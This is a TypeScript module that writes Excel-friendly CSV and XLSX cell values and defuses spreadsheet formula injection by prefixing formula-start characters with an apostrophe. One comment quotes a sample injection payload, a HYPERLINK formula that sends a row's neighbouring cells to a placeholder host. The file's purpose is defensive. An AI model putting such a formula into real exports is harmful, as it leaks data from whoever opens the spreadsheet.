/**
 * What gridwall writes for spreadsheets. CSV that Excel opens cleanly: UTF-8 with a byte-order mark, CRLF
 * line ends, RFC 4180 quoting only where a value needs it; and the cell values of XLSX workbooks. Every
 * text cell of either goes through `inertText`. (Bulk loads into PostgreSQL use `csvLine` in store/db.ts,
 * which quotes every value and is never opened by a person.)
 */
export const EXCEL_BOM = '\uFEFF';

/**
 * The first characters that make Excel, LibreOffice or Google Sheets read a text cell as a formula (OWASP
 * "CSV injection"): `=`, `+`, `-`, `@`, tab, carriage return — and their full-width forms, which Japanese
 * input produces and which a spreadsheet may convert on entry.
 */
const FORMULA_START = /^[=+\-@\t\r＝＋－＠]/;

/**
 * Text as a spreadsheet shows it and never evaluates: a value starting with a formula character gets one
 * leading `'` (Excel's own "this is text" mark), anything else is left as it is. Issue 14: an emergency
 * read's stated reason `=HYPERLINK("http://x"&A2,"open")` reached compliance's review CSV as a live
 * formula that would send the row's neighbours to whoever wrote it. Numbers are not text and never pass
 * here, so a negative count stays a number.
 */
export function inertText(s: string): string {
  return FORMULA_START.test(s) ? `'${s}` : s;
}

/** A cell of an XLSX sheet: numbers as numbers, text made inert. */
export function sheetValue(v: string | number): string | number {
  return typeof v === 'number' ? v : inertText(v);
}

/** What a CSV cell holds: an instant or an object is formatted by the caller, which knows how it should read. */
export type CsvCellValue = string | number | bigint | boolean | null | undefined;

/** One CSV cell: numbers (and bigints) as written, null and undefined empty, text made inert. */
export function csvCell(v: CsvCellValue): string {
  const s = v === null || v === undefined ? '' : typeof v === 'number' || typeof v === 'bigint' ? String(v) : inertText(String(v));
  return /[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
}

/** One row, with its CRLF. */
export function csvRow(cells: readonly CsvCellValue[]): string {
  return `${cells.map(csvCell).join(',')}\r\n`;
}
